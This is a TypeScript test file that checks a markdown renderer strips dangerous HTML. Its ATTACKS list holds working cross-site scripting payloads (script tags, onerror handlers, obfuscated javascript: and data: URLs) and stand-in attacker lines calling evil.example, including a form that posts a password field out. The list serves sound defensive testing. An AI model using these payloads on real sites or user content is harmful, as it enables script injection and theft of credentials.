import { describe, expect, test } from "bun:test";
import { shippedDocuments } from "@streamhub/db";
import fc from "fast-check";
import { renderMarkdown } from "./markdown.ts";

/** Each tries to run a script, to load something, or to leave its place in the page. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVa\nScript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x" onclick="alert(1)" style="x:expression(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](//evil.example)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/pixel.png)",
  '![x"onerror="alert(1)](x)',
  '[x](https://a "onmouseover=alert(1) ")',
  "<style>*{background:url(https://evil.example)}</style>",
  '<link rel=stylesheet href="https://evil.example">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  "<base href=https://evil.example>",
  "<form action=https://evil.example><input name=password><button>x</button></form>",
  "<object data=x></object><embed src=x>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<p class=admin id=app>x</p>",
  "```html\n<script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  '<a href="JaVa\nScript:alert(1)">x</a>[x](//evil.example)',
  "\u0000<scr\u0000ipt>alert(1)</script>",
];

const TAGS = new Set(
  "h1 h2 h3 h4 h5 h6 p ul ol li blockquote pre code hr br strong em del a table thead tbody tr th td".split(" "),
);

/** What a browser would make of it, by the tags and attributes that are really there. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const rewriter = new HTMLRewriter().on("*", {
    element(element) {
      if (!TAGS.has(element.tagName)) found.push(`<${element.tagName}>`);
      for (const [name, value] of element.attributes) {
        const fine =
          (name === "href" && /^(https?:\/\/|mailto:|#|\/(?!\/)|[\w.?-][\w./?#%&=-]*$|$)/i.test(value)) ||
          ["title", "rel", "start", "align"].includes(name);
        if (!fine) found.push(`${element.tagName}[${name}=${value}]`);
      }
    },
    comments: () => void found.push("<!-- -->"),
  });
  rewriter.transform(html);
  return found;
}

describe("Markdown", () => {
  test.each(ATTACKS)("%j does nothing", (attack) => {
    expect(dangers(renderMarkdown(attack))).toEqual([]);
    expect(dangers(renderMarkdown(`- a\n\n> ${attack}\n\n## ${attack}`))).toEqual([]);
  });

  test("pieces of attacks in any order do nothing", () => {
    const piece = fc.constantFrom(
      ...ATTACKS,
      "<",
      ">",
      '"',
      "'",
      "](",
      "[",
      "`",
      "\n",
      "\n\n",
      "&lt;",
      "&#x3c;",
      "<!--",
      "-->",
      "|",
      "\\",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        expect(dangers(renderMarkdown(pieces.join("")))).toEqual([]);
      }),
    );
  });

  test("what people write comes out", () => {
    expect(
      renderMarkdown("## Title\n\n**bold** _it_ [in](/documents/rules) [out](https://example.org)\n\n1. a\n2. b"),
    ).toBe(
      '<h2>Title</h2>\n<p><strong>bold</strong> <em>it</em> <a href="/documents/rules">in</a> ' +
        '<a href="https://example.org" rel="noopener noreferrer nofollow">out</a></p>\n<ol>\n<li>a</li>\n<li>b</li>\n</ol>',
    );
    expect(renderMarkdown("| a | b |\n| - | -: |\n| `x < y` | 2 |")).toContain("<td><code>x &lt; y</code></td>");
  });

  test("deep nesting ends in time", () => {
    const started = performance.now();
    for (const deep of [
      "> ".repeat(10_000),
      "- ".repeat(10_000),
      "[".repeat(50_000),
      "<p>".repeat(20_000),
      "*a ".repeat(20_000),
    ])
      renderMarkdown(deep);
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  test.each(shippedDocuments())("ships $locale/$slug, well-formed", ({ title, body }) => {
    expect(title).not.toMatch(/^#|^$/);
    const html = renderMarkdown(body);
    expect(dangers(html)).toEqual([]);
    expect(html).toContain("<h2>");
    for (const [, slug] of body.matchAll(/\]\(\/documents\/([\w-]+)\)/g))
      expect(["terms", "privacy", "rules", "cookies"]).toContain(slug!);
  });
});

test("both languages have the same documents with the same sections", () => {
  const outline = (locale: string) =>
    shippedDocuments()
      .filter((text) => text.locale === locale)
      .map(({ slug, body }) => `${slug} ${body.match(/^## /gm)?.length} ${body.match(/^- /gm)?.length ?? 0}`);
  expect(outline("ru")).toEqual(outline("en"));
});
